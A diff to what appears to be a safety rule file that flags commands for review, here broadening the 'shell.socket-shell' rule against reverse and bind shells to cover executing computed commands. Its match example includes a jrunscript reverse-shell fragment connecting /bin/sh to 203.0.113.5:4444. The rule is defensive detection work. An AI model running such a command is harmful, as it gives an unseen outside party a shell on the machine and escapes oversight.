@@ -64,11 +64,12 @@ problem_rule(
 )
 problem_rule(
     "shell.socket-shell",
-    "Code of a language clearance does not read that connects a network socket and starts a shell (a reverse or bind shell)",
+    "Code of a language clearance does not read that connects a network socket and starts a shell or runs what it computes (a reverse or bind shell)",
     "Go, Java (jrunscript, jjs), Tcl, Lisp or other code that opens a socket and runs /bin/sh hands a shell on this machine to"
-    " whoever is at the other end, out of anyone's sight; the two halves together have no place in coding work. Judged"
-    " language-blind, by the socket API and a shell named as a program; in an argument of a program clearance does not"
-    " model, which may be data, a person is asked.",
+    " whoever is at the other end, out of anyone's sight, as code that runs a command it computes (Lua's io.popen(r) of"
+    " what it received) does; the two halves together have no place in coding work. Judged language-blind, by the"
+    " socket API and a shell named as a program or a process call given a computed command; in an argument or a file"
+    " handed to a program clearance does not model, which may be data, a person is asked.",
     SOFT_DENY,
     match=(
         'jrunscript -e \'var p=new java.lang.ProcessBuilder("/bin/sh","-i").start();var s=new java.net.Socket("203.0.113.5",4444);\'',
